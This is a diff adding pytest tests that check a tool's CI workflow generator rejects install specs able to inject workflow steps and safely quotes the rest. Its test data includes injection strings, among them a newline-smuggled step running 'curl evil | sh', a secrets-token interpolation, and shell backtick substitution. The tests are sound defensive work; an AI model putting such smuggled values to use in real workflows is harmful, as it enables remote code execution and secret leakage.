@@ -210,3 +210,36 @@ def test_invalid_utf8_through_the_python_api(local_repo: Path) -> None:
             c.add_task(text)
         with pytest.raises(InvalidInput, match="message is not valid UTF-8"):
             c.claim(["src/a.py"], message=text)
+
+
+# -- the workflow's install text -----------------------------------------------------------------------------------
+
+
+yaml = pytest.importorskip("yaml", reason="PyYAML is needed to parse the workflow")
+
+WORKFLOW = Path(".github/workflows/gitcoord-notion.yml")
+
+
+@pytest.mark.parametrize("spec", ["gitcoord\n      - name: evil\n        run: curl evil | sh",
+                                  "gitcoord\r\n      - run: evil", "gitcoord\x1b[2J", "gitcoord\u2028x",
+                                  "gitcoord==${{ secrets.NOTION_TOKEN }}", ""])
+def test_ci_install_text_that_could_change_the_workflow_is_refused(local_repo: Path, spec: str) -> None:
+    res = run(local_repo, "ci", "github", "--install", spec)
+    assert res.code == 2, (res.code, res.err)
+    assert res.err.startswith("gitcoord: the install spec "), res.err
+    assert not (local_repo / WORKFLOW).exists()  # nothing half-written
+    assert git(local_repo, "ls-tree", "-r", "--name-only", "refs/heads/coord").find("workflows") < 0
+
+
+@pytest.mark.parametrize("spec", ['gitcoord @ git+https://example.com/x.git@v1#egg=gitcoord', "pkg: 1 #x",
+                                  "./tools/gitcoord[notion]", "it's \"quoted\" $HOME `id`"])
+def test_ci_install_text_is_quoted_for_yaml_and_the_shell(local_repo: Path, spec: str) -> None:
+    import shlex
+
+    res = run(local_repo, "ci", "github", "--no-coord", "--install", spec)
+    assert res.code == 0, res.err
+    flow = yaml.safe_load((local_repo / WORKFLOW).read_text(encoding="utf-8"))
+    steps = flow["jobs"]["sync"]["steps"]
+    installs = [s for s in steps if s.get("name") == "Install gitcoord"]
+    assert len(installs) == 1 and len(steps) == 5, steps
+    assert shlex.split(installs[0]["run"]) == ["python", "-m", "pip", "install", spec]
